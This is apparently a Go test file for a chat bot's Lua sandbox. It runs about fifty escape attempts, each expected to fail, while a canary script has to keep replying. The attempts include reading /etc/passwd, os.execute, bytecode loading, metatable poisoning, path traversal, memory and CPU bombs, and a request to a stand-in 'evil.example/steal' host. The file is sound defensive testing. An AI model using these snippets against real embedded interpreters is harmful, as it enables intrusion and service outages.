package host

import (
	"context"
	"encoding/json"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/luabot/luabot/gateway"
	"github.com/luabot/luabot/kv"
)

// Each attack runs in a handler of one script, next to a canary script in
// the same process. An attack that works sends "ESCAPED"; every attack
// must fail, and the canary must keep answering afterwards.
var attacks = []struct{ name, code string }{
	{"io.open", `local f = io.open("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"io via _G", `local f = _G["io"].open("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"os.execute", `os.execute("touch /tmp/luabot-pwned") qq.send("100", "ESCAPED")`},
	{"os.getenv", `if os.getenv("HOME") then qq.send("100", "ESCAPED") end`},
	{"os.exit", `os.exit(1) qq.send("100", "ESCAPED")`},
	{"os.remove", `os.remove("/tmp/x") qq.send("100", "ESCAPED")`},
	{"os.rename", `os.rename("/tmp/x", "/tmp/y") qq.send("100", "ESCAPED")`},
	{"debug.getregistry", `local r = debug.getregistry() qq.send("100", "ESCAPED")`},
	{"dofile", `dofile("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"loadfile", `local f = loadfile("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"loadstring", `local f = loadstring("return 1") qq.send("100", "ESCAPED")`},
	{"load", `local f = load(function() return nil end) qq.send("100", "ESCAPED")`},
	{"bytecode", `local f = load("\27LuaQ") qq.send("100", "ESCAPED")`},
	{"string.dump", `local b = string.dump(print) qq.send("100", "ESCAPED")`},
	{"getfenv", `local g = getfenv(print) if g.os and g.os.execute then qq.send("100", "ESCAPED") end`},
	{"setfenv", `setfenv(1, {}) qq.send("100", "ESCAPED")`},
	{"require parent", `require("../secret") qq.send("100", "ESCAPED")`},
	{"require absolute", `require("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"require package.loadlib", `package.loadlib("x", "y") qq.send("100", "ESCAPED")`},
	{"collectgarbage", `collectgarbage("collect") qq.send("100", "ESCAPED")`},
	{"newproxy", `newproxy(true) qq.send("100", "ESCAPED")`},
	{"event metatable", `local mt = getmetatable(ev) if type(mt) == "table" then qq.send("100", "ESCAPED") end setmetatable(ev, {}) qq.send("100", "ESCAPED")`},
	{"json.null metatable", `local mt = getmetatable(json.null) if type(mt) == "table" then qq.send("100", "ESCAPED") end error("refused")`},
	{"string metatable", `getmetatable("").__index.upper = function() return "pwned" end error("poisoned my own strings")`},
	{"setmetatable on a string", `setmetatable("", {__index = {upper = function() return "pwned" end}}) error("tried")`},
	{"_G tampering", `rawset(_G, "qq", nil) _G.kv = nil error("broke my own globals")`},
	{"resume the handler", `local ok = coroutine.resume(coroutine.running(), "fake") if ok then qq.send("100", "ESCAPED") end error("refused")`},
	{"infinite loop in pcall", `pcall(function() while true do end end) qq.send("100", "ESCAPED")`},
	{"infinite loop in xpcall", `xpcall(function() while true do end end, function() while true do end end) qq.send("100", "ESCAPED")`},
	{"coroutine that never yields", `coroutine.wrap(function() while true do end end)() qq.send("100", "ESCAPED")`},
	{"deep recursion", `local function f(n) return 1 + f(n + 1) end f(1) qq.send("100", "ESCAPED")`},
	{"recursive metatables", `local t = {} setmetatable(t, {__index = t}) local x = t.missing qq.send("100", "ESCAPED")`},
	{"__index loop via functions", `local t = setmetatable({}, {}) getmetatable(t).__index = function(s, k) return s[k] end local x = t.y qq.send("100", "ESCAPED")`},
	{"string.rep bomb", `local s = string.rep("x", 2^31) qq.send("100", "ESCAPED")`},
	{"string.format bomb", `local s = string.format("%999999999d", 1) qq.send("100", "ESCAPED")`},
	{"table.concat bomb", `local t = {} for i = 1, 20 do t[i] = string.rep("x", 2^20) end local s = table.concat(t) qq.send("100", "ESCAPED")`},
	{"pattern bomb", `string.find(string.rep("a", 40) .. "b", string.rep("a*", 40) .. "c") qq.send("100", "ESCAPED")`},
	{"gsub bomb", `local s = string.rep("a", 2^20) s = s:gsub("a", string.rep("b", 100)) qq.send("100", "ESCAPED")`},
	{"table growth bomb", `local t = {} while true do t[#t + 1] = {1, 2, 3, 4, 5, 6, 7, 8} end`},
	{"concat bomb", `local s = "x" while true do s = s .. s .. "y" end`},
	{"undeclared global hoard", `hoard = {} for i = 1, 1e7 do hoard[i] = "member " .. i end qq.send("100", "ESCAPED")`},
	{"unpack bomb", `local t = {} local x = {unpack(t, 1, 1e8)} qq.send("100", "ESCAPED")`},
	{"json depth bomb", `local v = json.decode(string.rep("[", 100000)) if v then qq.send("100", "ESCAPED") end error("refused")`},
	{"kv namespace escape", `kv.open("../other").set("k", 1) qq.send("100", "ESCAPED")`},
	{"qq.request to another host", `qq.request("GET", "http://evil.example/steal") qq.send("100", "ESCAPED")`},
	{"qq.request path traversal", `qq.request("GET", "/../../etc/passwd") qq.send("100", "ESCAPED")`},
	{"string hoard bomb", `local t = {} for i = 1, 1e7 do t[i] = "member " .. i end qq.send("100", "ESCAPED")`},
	{"yield to the host", `coroutine.yield("fake wait") qq.send("100", "ESCAPED")`},
}

const canarySrc = `on("message", function(ev)
  if ev.text == "ping" then qq.send("100", "pong " .. ("abc"):upper()) end
end)`

func TestSandbox_Attacks(t *testing.T) {
	if len(attacks) < 30 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			dir := t.TempDir()
			os.WriteFile(filepath.Join(filepath.Dir(dir), "secret.lua"), []byte(`return "outside"`), 0o644)
			store, err := kv.Open(kv.Config{Path: filepath.Join(dir, "k.db")})
			if err != nil {
				t.Fatal(err)
			}
			defer store.Close()
			api := &fakeAPI{calls: make(chan apiCall, 64)}
			logs := newLogSink()
			deps := scriptDeps{api: api, store: store, logger: slog.New(logs),
				limits: Limits{CPU: 500 * time.Millisecond, Memory: 32 << 20}}
			attacker, err := loadScript(writeScript(t, dir, "attacker.lua",
				"on(\"message\", function(ev)\n  if ev.text ~= \"attack\" then return end\n  "+a.code+"\nend)"), deps)
			if err != nil {
				t.Fatal(err)
			}
			canary, err := loadScript(writeScript(t, dir, "canary.lua", canarySrc), deps)
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			done := make(chan struct{}, 3)
			for _, s := range []*script{attacker, canary} {
				go func() { s.run(ctx, time.Second); done <- struct{}{} }()
			}
			go func() { watchMemory(ctx, func() []*script { return []*script{attacker, canary} }); done <- struct{}{} }()
			defer func() {
				cancel()
				for range 3 {
					<-done
				}
			}()

			event := func(text string) gateway.Event {
				return gateway.Event{Type: "AT_MESSAGE_CREATE", ID: "AT_MESSAGE_CREATE:" + text,
					Data: json.RawMessage(`{"id":"m-` + text + `","channel_id":"100","content":"<@!1> ` + text + `"}`)}
			}
			attacker.deliver(event("attack"))
			// The attack has run when the attacker logged its failure, or
			// finished; either way it must not have sent ESCAPED.
			waitAttackOver(t, logs, attacker)
			canary.deliver(event("ping"))
			deadline := time.After(10 * time.Second)
			for {
				select {
				case c := <-api.calls:
					content, _ := c.Body["content"].(string)
					if strings.Contains(content, "ESCAPED") {
						t.Fatalf("attack succeeded")
					}
					if c.Method != "POST" {
						t.Fatalf("attack reached the API: %s %s", c.Method, c.Path)
					}
					if content == "pong ABC" {
						return
					}
					t.Fatalf("unexpected message %q", content)
				case <-deadline:
					t.Fatal("the canary stopped answering")
				}
			}
		})
	}
	if _, err := os.Stat("/tmp/luabot-pwned"); err == nil {
		t.Fatal("os.execute ran")
	}
}

// waitAttackOver waits until the attacker's handler has failed, been
// killed or got its script stopped: every attack ends in one of those.
func waitAttackOver(t *testing.T, logs *logSink, s *script) {
	t.Helper()
	deadline := time.After(10 * time.Second)
	for {
		select {
		case r := <-logs.records:
			text := recordText(r)
			if strings.Contains(text, "handler failed") || strings.Contains(text, "handler killed") ||
				strings.Contains(text, "script stopped") {
				t.Log(text)
				return
			}
		case <-deadline:
			t.Fatal("the attack neither failed nor was stopped within 10 s")
		}
	}
}
